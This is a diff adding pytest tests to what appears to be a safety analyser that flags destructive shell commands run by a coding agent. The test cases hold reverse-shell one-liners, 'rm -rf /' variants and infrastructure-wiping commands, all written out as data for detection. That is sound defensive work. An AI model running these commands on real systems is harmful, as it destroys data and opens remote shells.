@@ -406,3 +406,43 @@ def test_plain_commands_do_not_import_bashlex_or_re():
                           text=True, timeout=120)
     assert proc.returncode == 0, proc.stderr
     assert proc.stdout.split() == ["False", "False"]
+
+
+# ------------------------------------------------- more command knowledge
+
+@pytest.mark.parametrize("command,family", [
+    ("terraform destroy -auto-approve", "infra-destroy"),
+    ("kubectl delete namespace prod", "infra-destroy"),
+    ("aws s3 rm s3://bucket --recursive", "infra-destroy"),
+    ("docker system prune -af", "infra-destroy"),
+    ("redis-cli FLUSHALL", "infra-destroy"),
+    ("eatmydata rm -rf /", "rm-recursive"),           # unlisted wrapper
+    ("nc -e /bin/sh 10.0.0.1 4444", "fetched-exec"),
+    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "fetched-exec"),
+    ("echo 'rm -rf /' > /tmp/x.sh; bash /tmp/x.sh", "rm-recursive"),
+])
+def test_more_destructive(command, family):
+    a = A(command)
+    assert any(f.family == family for f in a.destructive), (command, a.destructive)
+
+
+@pytest.mark.parametrize("command", [
+    "kubectl delete pod web-1", "docker system prune -f", "terraform plan", "docker rm -f c",
+    "pip install requests", "npm install", "helm install web ./chart",
+])
+def test_routine_infra_is_not_destructive(command):
+    assert not A(command).destructive, command
+
+
+def test_script_written_in_the_same_command_is_analysed():
+    a = A("cat > /tmp/t.py <<'EOF'\nprint('hi')\nEOF\npython3 /tmp/t.py")
+    assert not a.unknown and not a.destructive
+    a = A("printf 'import shutil\\nshutil.rmtree(\"/\")\\n' > /tmp/t.py && python3 /tmp/t.py")
+    assert a.destructive
+
+
+def test_pip_into_the_suite_environment_writes_it():
+    a = A(".claude/.venv/bin/pip uninstall -y bashlex")
+    assert any(w.rel == ".claude/.venv" and w.recursive for w in a.writes)
+    a = A("pip install --target .claude/hooks evil")
+    assert any(w.rel == ".claude/hooks" for w in a.writes)
